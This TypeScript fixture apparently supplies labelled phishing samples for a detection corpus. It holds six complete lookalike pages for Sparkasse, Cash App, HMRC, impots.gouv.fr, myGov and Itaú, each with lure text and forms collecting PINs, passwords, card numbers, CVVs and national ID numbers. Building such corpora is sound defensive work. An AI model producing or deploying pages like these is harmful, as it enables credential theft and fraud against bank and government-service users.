import type { Entry } from '../entry.js';
import { htmlRoute } from '../entry.js';
import { doc, imgRoute, gtag } from '../parts/r-kit.js';
import { jsRoute } from '../parts/e-bin.js';

export const entries: Entry[] = [
{
  id: 'r-phish-sparkasse-pushtan-de',
  label: 'phishing',
  kind: 'bank-kit',
  url: 'https://sparkasse-pushtan-aktualisierung.de/de/home/onlinebanking/freischaltung.html',
  body: doc({ lang: 'de', title: 'Sparkasse | Online-Banking | pushTAN Freischaltung', css: `body{margin:0;font-family:Sparkasse,Arial,sans-serif;background:#f2f2f2}header{background:#ff0000;color:#fff;padding:14px 8%;display:flex;align-items:center;gap:14px;font-weight:bold;font-size:20px}
header b{background:#fff;color:#f00;border-radius:50%;width:34px;height:34px;display:inline-flex;align-items:center;justify-content:center}
main{max-width:520px;margin:30px auto;background:#fff;padding:28px;border:1px solid #ddd}h1{font-size:22px;margin-top:0}
select,input{width:100%;padding:10px;margin:6px 0 14px;border:1px solid #aaa;font-size:15px}button{background:#f00;color:#fff;border:0;padding:12px 26px;font-size:16px}
.step{color:#666;font-size:13px}.hint{background:#fffbe6;border:1px solid #eedc82;padding:10px;font-size:14px}footer{text-align:center;font-size:12px;color:#777;padding:30px}` },
`<header><b>S</b> Sparkasse</header>
<main>
<p class="step">Schritt 1 von 3</p>
<h1>Aktualisierung Ihres pushTAN-Verfahrens</h1>
<p class="hint">Aufgrund der neuen PSD2-Richtlinie ist eine erneute Freischaltung Ihres pushTAN-Verfahrens bis zum <strong>15.12.</strong> erforderlich. Andernfalls wird Ihr Online-Banking-Zugang aus Sicherheitsgründen eingeschränkt.</p>
<form method="post" action="/de/home/onlinebanking/step2.php" id="spk">
<label>Bankleitzahl oder Name Ihrer Sparkasse</label>
<input name="blz" placeholder="z.B. 500 502 01" required>
<label>Anmeldename oder Legitimations-ID</label>
<input name="anmeldename" required>
<label>Online-Banking-PIN</label>
<input name="pin" type="password" maxlength="20" required>
<button type="submit">Weiter</button>
</form>
</main>
<footer>© Sparkassen-Finanzgruppe · <a href="#">Impressum</a> · <a href="#">Datenschutz</a> · <a href="#">Preise und Leistungen</a></footer>
<script>
document.getElementById('spk').onsubmit=function(){var p=this.pin.value;if(p.length<5){alert('Die PIN muss mindestens 5 Stellen haben.');return false;}};
</script>`),
  routes: {
    'sparkasse-pushtan-aktualisierung.de/de/home/onlinebanking/step2.php': htmlRoute(doc({ lang: 'de', title: 'Schritt 2' }, `<h1>Bestätigung</h1><form method="post" action="step3.php"><input name="telefon" placeholder="Mobilnummer"><input name="geburtsdatum" placeholder="Geburtsdatum"><input name="kartennummer" placeholder="Kartennummer (Sparkassen-Card)"><input name="ablauf" placeholder="Gültig bis"><button>Weiter</button></form>`)),
  },
},
{
  id: 'r-phish-cashapp-verify-en',
  label: 'phishing',
  kind: 'payment-kit',
  url: 'https://cash-app-support-center.help/verify/account',
  body: doc({ title: 'Cash App – Verify Your Account', css: `body{margin:0;background:#00d632;font-family:"Cash Sans",Helvetica,sans-serif}.p{max-width:400px;margin:50px auto;background:#fff;border-radius:20px;padding:30px}
.ic{width:56px;height:56px;border-radius:14px;background:#00d632;color:#fff;font:700 36px Arial;display:flex;align-items:center;justify-content:center;margin:0 auto}
input{width:100%;padding:14px;background:#f1f1f1;border:0;border-radius:10px;margin:6px 0;font-size:16px}button{width:100%;background:#00d632;color:#fff;border:0;border-radius:30px;padding:14px;font-size:17px;font-weight:600;margin-top:14px}` },
`<div class="p"><div class="ic">$</div>
<h2 style="text-align:center">Account Verification</h2>
<p style="color:#555;text-align:center">Your $750 payment from <b>$MelissaK22</b> is pending. Verify your account to receive the funds instantly.</p>
<form method="post" action="/verify/submit.php">
<input name="cashtag" placeholder="$Cashtag" required>
<input name="email" placeholder="Email or phone" required>
<input name="card" placeholder="Debit card number" inputmode="numeric" maxlength="19" required>
<input name="exp" placeholder="MM/YY" style="width:48%;display:inline-block"> <input name="cvv" placeholder="CVV" style="width:48%;display:inline-block">
<input name="pin" placeholder="Cash PIN" type="password" maxlength="4" inputmode="numeric">
<input name="ssn" placeholder="SSN (last 4 digits)" maxlength="4">
<button>Verify &amp; Receive $750</button></form>
<p style="font-size:11px;color:#999;text-align:center">Cash App is a service of Block, Inc. Banking services by Sutton Bank.</p></div>`),
},
{
  id: 'r-phish-hmrc-tax-refund',
  label: 'phishing',
  kind: 'gov-kit',
  url: 'https://hmrc-taxrefund-claim.uk/gov-uk/refund/claim.php',
  body: doc({ title: 'Claim your tax refund - GOV.UK', css: `body{margin:0;font-family:"GDS Transport",Arial,sans-serif;color:#0b0c0c}.gh{background:#0b0c0c;color:#fff;padding:10px 15%;font-weight:700;font-size:28px}.gh small{font-size:16px;font-weight:400;margin-left:14px}
.bl{height:10px;background:#1d70b8}main{width:70%;margin:30px auto}h1{font-size:36px}label{font-weight:700;display:block;margin-top:20px}.hint{color:#505a5f}
input{border:2px solid #0b0c0c;padding:6px;font-size:19px;width:300px}button{background:#00703c;color:#fff;border:0;box-shadow:0 2px 0 #002d18;padding:10px 16px;font-size:19px;margin-top:24px}
.ins{border-left:10px solid #b1b4b6;padding:15px}footer{border-top:10px solid #1d70b8;background:#f3f2f1;padding:30px 15%;font-size:14px}` },
`<div class="gh">GOV.UK <small>HM Revenue &amp; Customs</small></div><div class="bl"></div>
<main><h1>Claim your tax refund</h1>
<div class="ins">Our records show you have overpaid tax in the 2024 to 2025 tax year. You are eligible to receive a refund of <strong>£364.80</strong>.</div>
<form method="post" action="claim-next.php">
<label>Full name</label><input name="fullname" required>
<label>Date of birth</label><span class="hint">For example, 27 3 1985</span><br><input name="dob" required>
<label>National Insurance number</label><span class="hint">It’s on your National Insurance card, payslip or P60. For example, ‘QQ 12 34 56 C’.</span><br><input name="nino" required>
<label>Card number to receive refund</label><input name="cardnumber" required>
<label>Expiry date</label><input name="expiry" style="width:120px"> <label>Security code</label><input name="cvc" style="width:90px">
<label>Mother's maiden name</label><input name="mmn">
<br><button>Submit claim</button></form></main>
<footer>All content is available under the Open Government Licence v3.0, except where otherwise stated · © Crown copyright</footer>`),
},
{
  id: 'r-phish-impots-remboursement-fr',
  label: 'phishing',
  kind: 'gov-kit',
  url: 'https://impots-gouv-remboursement.fr/particulier/espace/remboursement/',
  body: doc({ lang: 'fr', title: 'impots.gouv.fr - Avis de remboursement', css: `body{margin:0;font-family:Marianne,Arial,sans-serif;background:#f6f6f6}header{background:#fff;padding:16px 10%;border-bottom:1px solid #ddd;display:flex;gap:20px;align-items:center}
.mar{font-weight:700;line-height:1.1;font-size:13px;border-left:4px solid #000091;padding-left:8px}.dg{color:#000091;font-size:20px;font-weight:700}
main{max-width:620px;margin:30px auto;background:#fff;padding:30px}input,select{width:100%;padding:9px;border:0;border-bottom:2px solid #3a3a3a;background:#eee;margin:4px 0 14px}
button{background:#000091;color:#fff;border:0;padding:11px 22px}.mt{font-size:28px;color:#18753c;font-weight:700}` },
`<header><div class="mar">RÉPUBLIQUE<br>FRANÇAISE<br><small style="font-weight:400;font-style:italic">Liberté Égalité Fraternité</small></div><div class="dg">impots.gouv.fr</div></header>
<main><h2>Avis de remboursement d'impôt</h2>
<p>Après les derniers calculs annuels de votre activité fiscale, nous avons déterminé que vous êtes admissible à recevoir un remboursement d'impôt de :</p>
<p class="mt">412,50 €</p>
<p>Veuillez remplir le formulaire ci-dessous afin que nous puissions traiter votre remboursement sous 5 jours ouvrés.</p>
<form action="traitement.php" method="post">
<input name="nom" placeholder="Nom" required><input name="prenom" placeholder="Prénom" required>
<input name="naissance" placeholder="Date de naissance (JJ/MM/AAAA)">
<input name="fiscal" placeholder="Numéro fiscal (13 chiffres)">
<input name="adresse" placeholder="Adresse"><input name="tel" placeholder="Téléphone">
<select name="banque"><option>Crédit Agricole</option><option>BNP Paribas</option><option>Société Générale</option><option>La Banque Postale</option><option>Caisse d'Epargne</option><option>LCL</option><option>Autre</option></select>
<input name="cb" placeholder="Numéro de carte bancaire"><input name="exp" placeholder="MM/AA"><input name="cvv" placeholder="Cryptogramme">
<button>Valider mon remboursement</button></form>
<p style="font-size:11px;color:#666">Direction générale des Finances publiques – Ministère de l'Économie, des Finances et de la Souveraineté industrielle et numérique</p></main>`),
},
{
  id: 'r-phish-mygov-au-update',
  label: 'phishing',
  kind: 'gov-kit',
  url: 'https://my-gov-au.services-login.net/LoginServices/main/login',
  body: doc({ title: 'myGov - Sign in', css: `body{margin:0;font-family:"Public Sans",Arial,sans-serif;background:#f5f5f5}.h{background:#313131;padding:14px 10%;color:#fff;display:flex;align-items:center;gap:14px}.h b{font-size:24px}
.m{max-width:560px;margin:40px auto;background:#fff;padding:36px;border-top:6px solid #00698f}input{width:100%;padding:10px;border:1px solid #767676;margin:6px 0 16px;font-size:16px}
button{background:#00698f;color:#fff;border:0;padding:11px 28px;font-size:16px;border-radius:4px}a{color:#00698f}.n{background:#eef7fb;padding:12px;border-left:4px solid #00698f;font-size:14px}` },
`<div class="h">🇦🇺 <b>myGov</b> <span style="opacity:.7">Australian Government</span></div>
<div class="m"><h1>Sign in with myGov</h1>
<p class="n">We need to confirm your details before your Centrelink / Medicare payment can be released.</p>
<form method="post" action="/LoginServices/main/authenticate.php">
<label>Username or email</label><input name="userId" required>
<label>Password</label><input type="password" name="password" required>
<button>Sign in</button></form>
<p><a href="#">Forgot username</a> · <a href="#">Forgot password</a></p>
<hr><p>Other ways to sign in: <a href="#">myID</a></p></div>
<script>
(function(){var s=document.createElement('img');s.src='/LoginServices/main/px.gif?v='+Date.now();})();
</script>`),
  routes: { 'my-gov-au.services-login.net/LoginServices/main/px.gif': imgRoute(255, 255, 255) },
},
{
  id: 'r-phish-itau-token-ptbr',
  label: 'phishing',
  kind: 'bank-kit',
  url: 'https://itau-atualizacao-cadastral.com.br/acesso/conta',
  body: doc({ lang: 'pt-BR', title: 'Itaú - Atualização Cadastral', css: `body{margin:0;font-family:"Itau Text",Arial,sans-serif;background:#ec7000;color:#222}.hd{padding:16px;display:flex;align-items:center;justify-content:center}
.lg{background:#003399;color:#ffcc00;font-weight:900;font-size:22px;padding:10px 12px;border-radius:8px}.bx{background:#fff;max-width:380px;margin:10px auto;border-radius:10px;padding:26px}
input{width:100%;padding:12px;border:1px solid #ccc;border-radius:4px;margin:6px 0 12px;font-size:16px}button{width:100%;background:#ec7000;color:#fff;border:0;padding:13px;border-radius:4px;font-size:16px;font-weight:bold}` },
`<div class="hd"><span class="lg">Itaú</span></div>
<div class="bx"><h3>Seu dispositivo não está habilitado</h3>
<p style="font-size:14px">Para continuar utilizando o app e o Internet Banking, é necessário realizar a <b>atualização do seu iToken</b>. Informe os dados abaixo.</p>
<form method="POST" action="enviar.php" id="it">
<input name="agencia" placeholder="Agência" maxlength="4" inputmode="numeric" required>
<input name="conta" placeholder="Conta com dígito" required>
<input name="senha" placeholder="Senha eletrônica (6 dígitos)" type="password" maxlength="6" required>
<input name="cpf" placeholder="CPF">
<input name="celular" placeholder="Celular com DDD">
<button>Continuar</button></form>
<p style="font-size:11px;color:#777">Itaú Unibanco S.A. – CNPJ 60.701.190/0001-04</p></div>
<script>document.querySelector('[name=cpf]').addEventListener('input',function(){var v=this.value.replace(/\\D/g,'').slice(0,11);this.value=v.replace(/(\\d{3})(\\d{3})(\\d{3})(\\d{0,2})/,'$1.$2.$3-$4');});</script>`),
},
];
